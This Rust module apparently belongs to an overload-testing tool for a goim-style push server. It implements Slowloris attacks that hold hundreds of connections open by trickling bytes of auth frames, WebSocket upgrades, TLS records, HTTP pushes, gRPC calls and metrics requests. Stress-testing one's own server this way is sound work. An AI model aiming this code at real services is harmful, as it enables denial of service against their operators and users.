//! Slowloris: connections that send their request one byte after the other.

use std::io::{ErrorKind, Read, Write};
use std::net::{IpAddr, SocketAddr, TcpStream};

use super::attacker::{Attacker, LARGEST};
use crate::Result;
use crate::clock::{MILLISECOND_NS, now_ns, sleep_until};
use crate::dial::begin_to_connect;
use crate::message::{self, HEADER_LEN, OP_SEND};
use crate::visitor::connect;

/// Connections at once.
const CONNECTIONS: usize = 500;
/// Time between two bytes of a connection.
const BYTE_NS: u64 = 100 * MILLISECOND_NS;
/// The connections take turns in this many groups.
const GROUPS: usize = 10;

/// Operation of an authentication.
const OP_AUTH: i32 = 7;
/// The header of an authentication that announces a token of 4 KiB.
const AUTH: &[u8] = b"\0\0\x10\0\0\x10\0\x01\0\0\0\x07\0\0\0\x01";
const UPGRADE: &[u8] = b"GET /sub HTTP/1.1\r\nHost: localhost\r\n";
const SCRAPE: &[u8] = b"GET /metrics HTTP/1.1\r\nHost: localhost\r\n";
/// One more header field of a head that never ends.
const FIELD: &[u8] = b"X-Wait: a\r\n";
const PROXY_HEADER: &[u8] = b"PROXY TCP4 192.0.2.1 192.0.2.2 50000 8080\r\n";
const PUSH: &[u8] = b"POST /goim/push/keys?operation=1000&keys=nobody HTTP/1.1\r\n\
                      Host: localhost\r\nContent-Length: 4096\r\n\r\n";
/// The header and target of a push to the key `nobody` with a body of 4 KiB ("Push frames" in docs/PROTOCOL.md).
const PUSH_FRAME: &[u8] =
    b"\0\0\x10\x22\0\x1c\0\x01\0\0\x03\xe8\0\0\0\0\0\0\0\x01\0\0\0\0\0\x01\0\x06nobody";
/// The preface of HTTP/2, empty SETTINGS, the head of a call of `PushMsg`, and the header of its DATA of 4 KiB (RFC 9113,
/// sections 3.4 and 4.1; RFC 7541, section 6.2.2).
const CALL: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0\
                      \0\0\x48\x01\x04\0\0\0\x01\x83\x86\x01\x09localhost\x04\x19/goim.comet.Comet/PushMsg\
                      \x0f\x10\x10application/grpc\0\x02te\x08trailers\
                      \0\x10\0\0\0\0\0\0\x01";

/// A connection of the attack.
pub(super) struct Slow {
    stream: TcpStream,
    bytes: Vec<u8>,
    /// Bytes that are sent at once.
    at_once: usize,
    sent: usize,
}

impl Slow {
    fn begin(address: SocketAddr, at_once: &[u8], slow: &[u8]) -> Result<Self> {
        let stream = begin_to_connect(address, None, None)?;
        let bytes = [at_once, slow].concat();
        Ok(Self { stream, bytes, at_once: at_once.len(), sent: 0 })
    }

    /// Sends the next byte, but never the last one. Returns whether the connection is open.
    fn go_on(&mut self) -> bool {
        let end = self.at_once.max(self.sent + 1);
        match self.stream.write(&self.bytes[self.sent..end]) {
            Ok(written) => {
                self.sent = (self.sent + written).min(self.bytes.len() - 2);
                !matches!(self.stream.read(&mut [0; 512]), Ok(0))
            }
            // It is not connected yet.
            Err(error) => error.kind() == ErrorKind::WouldBlock,
        }
    }
}

/// Keeps slow connections until the attack is over; returns the number of connections made. Those that the server closed
/// are made again. `begin` gets the number of the connection.
pub(super) fn run(
    attacker: &Attacker,
    begin: impl Fn(&Attacker, usize) -> Result<Slow>,
) -> Result<u64> {
    let mut connections = Vec::new();
    while connections.len() < CONNECTIONS {
        connections.push(begin(attacker, connections.len())?);
    }
    let mut made = CONNECTIONS;
    let mut group = 0;
    while !attacker.is_over() {
        group = (group + 1) % GROUPS;
        for connection in connections.iter_mut().skip(group).step_by(GROUPS) {
            if !connection.go_on() {
                *connection = begin(attacker, made)?;
                made += 1;
            }
        }
        attacker.set_under_way();
        sleep_until(now_ns() + BYTE_NS / GROUPS as u64);
    }
    Ok(made as u64)
}

/// An authentication.
pub(super) fn frame(by: &Attacker, _: usize) -> Result<Slow> {
    Slow::begin(by.endpoints.tcp, &[], &[AUTH, &[b'x'; LARGEST]].concat())
}

/// An upgrade to WebSocket.
pub(super) fn upgrade(by: &Attacker, _: usize) -> Result<Slow> {
    Slow::begin(by.websocket(), &[], &[UPGRADE, &FIELD.repeat(100)].concat())
}

/// A PROXY header, from a proxy at `source`.
pub(super) fn proxy_header(by: &Attacker, source: IpAddr) -> Result<Slow> {
    let stream = begin_to_connect(by.endpoints.tcp, Some(source), None)?;
    Ok(Slow { stream, bytes: PROXY_HEADER.to_vec(), at_once: 0, sent: 0 })
}

/// A ClientHello.
pub(super) fn hello(by: &Attacker, _: usize) -> Result<Slow> {
    Slow::begin(by.endpoints.tcp, &[], &by.tls()?.hello()?)
}

/// An authentication in a TLS record, after the handshake.
pub(super) fn record(by: &Attacker, _: usize) -> Result<Slow> {
    let mut tls = by.tls()?;
    let stream = connect(by.endpoints.tcp)?;
    tls.handshake(&stream)?;
    stream.set_nonblocking(true)?;
    let bytes = tls.encrypt(&[AUTH, &[b'x'; LARGEST - HEADER_LEN]].concat())?;
    Ok(Slow { stream, bytes, at_once: 0, sent: 0 })
}

/// A message, by a client that is authenticated.
pub(super) fn message(by: &Attacker, number: usize) -> Result<Slow> {
    let token = format!(
        r#"{{"mid":{},"key":"slow-{number}","room_id":"overload://slow","accepts":[]}}"#,
        6_000_000 + number
    );
    let login = message::frame(OP_AUTH, token.as_bytes());
    let message = message::frame(OP_SEND, &[b'x'; LARGEST - HEADER_LEN]);
    Slow::begin(by.endpoints.tcp, &login, &message)
}

/// A push over HTTP.
pub(super) fn push(by: &Attacker, _: usize) -> Result<Slow> {
    Slow::begin(by.api, &[], &[PUSH, &[b'x'; 4096]].concat())
}

/// The message of a gRPC call.
pub(super) fn call(by: &Attacker, _: usize) -> Result<Slow> {
    Slow::begin(by.grpc.parse()?, CALL, &[b"\0\0\0\x0f\xfb", &[b'x'; 4091][..]].concat())
}

/// The body of a push frame.
pub(super) fn push_frame(by: &Attacker, _: usize) -> Result<Slow> {
    Slow::begin(by.api, PUSH_FRAME, &[b'x'; 4096])
}

/// A request for the metrics.
pub(super) fn scrape(by: &Attacker, _: usize) -> Result<Slow> {
    Slow::begin(by.stat, &[], &[SCRAPE, &FIELD.repeat(100)].concat())
}
